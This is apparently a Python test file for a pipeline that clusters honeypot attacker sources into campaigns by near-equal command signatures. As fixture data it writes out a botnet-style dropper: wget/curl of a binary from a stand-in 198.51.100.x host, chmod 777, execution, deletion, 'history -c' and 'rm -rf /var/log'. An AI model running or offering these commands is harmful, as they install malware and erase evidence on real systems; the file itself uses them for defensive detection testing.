"""Near-equal commands join who typed them, what everybody types joins nobody, and order is nothing."""

from __future__ import annotations

from collections.abc import Sequence
from random import Random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.campaign.evidence import Evidence
from pipeline.campaign.group import Reason, _clusters, candidates, groups
from pipeline.campaign.likeness import COMMON, NEAR, Alike, Likeness, alike
from pipeline.campaign.presence import Shared
from pipeline.campaign.union import Union
from pipeline.command import COMPONENTS, signature_of, similarity
from pipeline.command_words import COMMANDS, OPTIONS
from pipeline.company import COMMAND
from pipeline.explain.grouped import explained
from pipeline.explain.inquiry import Inquiry
from pipeline.explain.words import of_campaign
from pipeline.sight import UNKNOWN_WATERMARK, Sightings
from tests.property.test_campaign import COUNTRIES, Record, desk, feed, raised, sighting, standing
from tests.unit.making import HOUR

SCRIPT = (
    "cd /tmp || cd /var/run || cd /mnt || cd /root; wget http://{a}/{b} -O {b}; curl -O http://{a}/{b}; "
    "chmod 777 {b}; ./{b} {c}; rm -rf {b}; history -c; crontab -l | grep {b}"
)
COMMON_LINE = (
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{{print $4}}'; free -m | grep Mem; w"
)


def typed(ip: str, country: str, time: int, command: str) -> Sightings:
    found = signature_of(command)
    assert found is not None
    return sighting(country, time, ("ip", ip), (COMMAND, found))


def others(number: int, dice: Random) -> list[Sightings]:
    """Sources of a day, each of which types its own, or what everybody does."""
    told: list[Sightings] = []
    tools, options = sorted(COMMANDS), sorted(OPTIONS)
    for nth in range(number):
        own = "; ".join(f"{dice.choice(tools)} {dice.choice(options)} {nth}" for _ in range(8))
        line = COMMON_LINE.format() if nth % 3 == 0 else own
        for country in dice.sample(COUNTRIES, 4):
            told.append(typed(f"other-{nth}", country, dice.randrange(90) * HOUR, line))
    return told


def strike(dice: Random, line: str = SCRIPT, hosts: int = 5) -> list[Sightings]:
    """Hosts that come by in hours of their own, each with a script that differs a little."""
    told: list[Sightings] = []
    for host in range(hosts):
        for country in COUNTRIES:
            text = line.format(
                a=f"198.51.100.{dice.randrange(250)}", b=f"x{dice.randrange(999)}", c="7"
            )
            text += dice.choice(("", "; exit", "; rm -rf /var/log"))
            told.append(typed(f"bot-{host}", country, dice.randrange(90) * HOUR, text))
    return told


WORLD = others(400, Random(1)) + strike(Random(2))
ALERTS = [raised("bot", "bot-0", HOUR), raised("other", "other-3", HOUR)]


def grouped(records: Sequence[Sightings]) -> list[set[str]]:
    evidence = Evidence({"ip": HOUR})
    for one in records:
        evidence.observe(one)
    found = groups(evidence, candidates(evidence))
    return [{value for _, value in group.members} for group in found]


def test_who_typed_near_equal_scripts_is_one_campaign_by_that_alone() -> None:
    assert grouped(WORLD) == [{f"bot-{n}" for n in range(5)}]
    evidence = Evidence({"ip": HOUR})
    for one in WORLD:
        evidence.observe(one)
    (group,) = groups(evidence, candidates(evidence))
    for reason in group.members.values():
        assert reason.company is None
        assert reason.alike is not None
        assert (reason.alike.having, reason.alike.of) == (5, 405)
        assert reason.p <= 1e-4


def test_it_is_told_with_why() -> None:
    at = desk()
    feed(at, [*WORLD, *ALERTS])
    (one,) = at.look(UNKNOWN_WATERMARK)
    assert {member.value for member in one.indicators} == {f"bot-{n}" for n in range(5)}
    assert one.alerts == ("bot",)
    assert all("near-equal commands, which came with 5 of 405" in why.why for why in one.reasons)
    assert all(member.type != COMMAND for member in one.indicators)


def test_explain_says_how_likely_it_is() -> None:
    at = desk()
    feed(at, [*WORLD, *ALERTS])
    (one,) = at.look(UNKNOWN_WATERMARK)
    found = explained(one, {}, at.groups(), Inquiry([], None, (), {}))
    for member in found.members:
        assert member.edge is not None
        assert member.edge.alike is not None
        assert (member.edge.alike.hits, member.edge.alike.drawn) == (5, 5)
    edges = [
        line for line in of_campaign(found) if line.startswith("    edge: near-equal commands")
    ]
    assert len(edges) == 5
    assert all("near-equal commands 5 of 5, p " in line for line in edges)


def test_what_everybody_types_joins_nobody() -> None:
    assert grouped(others(400, Random(1)) + strike(Random(2), COMMON_LINE)) == []


@pytest.mark.parametrize("hosts", [20, 60])
def test_what_more_than_a_few_typed_is_no_evidence_alone(hosts: int) -> None:
    """Twenty of 420 are too many for that; sixty of 460 are everybody."""
    records = others(400, Random(1)) + strike(Random(2), hosts=hosts)
    assert grouped(records) == []
    evidence = Evidence({"ip": HOUR})
    for one in records:
        evidence.observe(one)
    tie = Likeness(evidence, candidates(evidence)).shared(("ip", "bot-0"), ("ip", "bot-1"))
    assert (tie is None) == (hosts > COMMON * (400 + hosts))
    assert tie is None or not tie.is_rare


def test_among_few_nobody_knows_what_is_common() -> None:
    assert grouped(strike(Random(2))) == []


@settings(max_examples=5, deadline=None)
@given(st.integers(0, 10_000), st.booleans())
def test_order_and_duplicates_change_nothing(seed: int, again: bool) -> None:
    dice = Random(seed)
    records: list[Record] = [*WORLD, *ALERTS, *(dice.sample(WORLD, 50) if again else [])]
    dice.shuffle(records)
    wanted, at = desk(), desk()
    feed(wanted, [*WORLD, *ALERTS])
    (one,) = wanted.look(UNKNOWN_WATERMARK)
    for n, record in enumerate(records):
        feed(at, [record])
        if n == 1_000:
            at.look(UNKNOWN_WATERMARK)
    at.look(UNKNOWN_WATERMARK)
    assert standing(at.told) == [one]


digits = st.lists(st.sampled_from("0123456789abcdef"), min_size=COMPONENTS, max_size=COMPONENTS)


@given(st.lists(digits.map("".join), max_size=6), st.data())
def test_things_are_what_near_equal_signatures_come_to(
    seeds: list[str], data: st.DataObject
) -> None:
    """Against the plain way: each with each, and whom they are near, and so on. Of those that have
    a band in common, which is all but few, none is missed.
    """
    found = set(seeds)
    for seed in seeds:
        for _ in range(data.draw(st.integers(0, 4))):
            at = data.draw(st.sets(st.integers(0, COMPONENTS - 1), max_size=12))
            found.add("".join("f" if n in at else digit for n, digit in enumerate(seed)))
    things = alike(found)
    assert things == alike(sorted(found, reverse=True))

    def near(one: str, other: str) -> bool:
        bands = any(one[n : n + 4] == other[n : n + 4] for n in range(0, COMPONENTS, 4))
        return bands and similarity(one, other) >= NEAR

    for one in found:
        reached, left = {one}, [one]
        while left:
            at_hand = left.pop()
            new = {other for other in found - reached if near(at_hand, other)}
            reached |= new
            left += new
        assert {other for other in found if things[other] == things[one]} == reached
        assert things[one] == min(reached)


@pytest.mark.parametrize(("chance", "kept"), [(1e-9, 1), (0.9, 0)])
def test_hashes_of_one_file_are_no_campaign_for_commands_that_tell_nothing(
    chance: float, kept: int
) -> None:
    """They say one thing: that is two only by commands that weigh."""
    visits = Shared(9, 9, 1e-12, telling=True, known_at=0)
    typed_alike = Alike(3, 3, 2, 90, chance, 0)
    one, other = ("md5", "a" * 32), ("sha256", "b" * 64)
    edge = Reason(one, other, None, visits, None, False, 0, None, typed_alike)
    assert len(_clusters([edge], 1.0)) == kept


@given(st.lists(st.tuples(st.sampled_from("abcdefgh"), st.sampled_from("abcdefgh"))), st.randoms())
def test_what_belongs_together_is_as_a_walk_along_all_pairs_finds_it(
    pairs: list[tuple[str, str]], dice: Random
) -> None:
    union = Union[str]()
    dice.shuffle(pairs)
    for one, other in pairs:
        union.join(one, other)
    for name in "abcdefgh":
        reached = {name}
        while more := {b for pair in pairs for b in pair if reached & set(pair)} - reached:
            reached |= more
        assert union.head(name) == min(reached)
